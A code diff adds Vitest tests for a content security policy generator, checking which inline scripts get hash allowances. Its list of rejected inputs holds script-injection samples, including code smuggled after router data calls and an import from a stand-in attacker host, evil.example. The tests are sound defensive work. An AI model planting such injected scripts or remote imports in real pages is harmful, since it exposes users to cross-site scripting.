@@ -1,14 +1,33 @@
 import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
+import { firstScript } from '../../app/client/layout.ts';
 import { contentSecurityPolicy } from './content-security-policy.ts';
 
 const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
 const alone = { tagManagerScript: '', framedBy: null };
 
 describe('the content security policy of a page', () => {
-	it('allows exactly the inline scripts that the page carries', () => {
-		const policy = contentSecurityPolicy('<script>one()</script><p></p><script type="module">two()</script>', alone);
-		expect(policy).toContain(`script-src 'self' ${hashOf('one()')} ${hashOf('two()')};`);
+	const data = 'window.__reactRouterContext.streamController.enqueue("[1]");';
+
+	it('allows the first script and the data that the router hands over', () => {
+		const policy = contentSecurityPolicy(`<script>${firstScript}</script><p></p><script>${data}</script>`, alone);
+		expect(policy).toContain(`script-src 'self' ${hashOf(firstScript)} ${hashOf(data)};`);
+	});
+
+	it.each([
+		'evil()',
+		`${firstScript};evil()`,
+		'window.__reactRouterContext.streamController.enqueue("" + evil());',
+		'window.__reactRouterContext.streamController.enqueue("");evil("");',
+		`window.__reactRouterContext.streamController.close();evil()`,
+		'import "/assets/a.js";import("https://evil.example/b.js");',
+		'window.__reactRouterContext = {"a":evil()};',
+	])('does not allow a script that came into the page otherwise: %s', (script) => {
+		expect(contentSecurityPolicy(`<script>${script}</script>`, alone)).toContain("script-src 'self';");
+	});
+
+	it('does not open for what is no address', () => {
+		expect(contentSecurityPolicy('', { ...alone, tagManagerScript: 'gtm.js' })).toBe(contentSecurityPolicy('', alone));
 	});
 
 	it('never allows inline styles, eval or other hosts', () => {
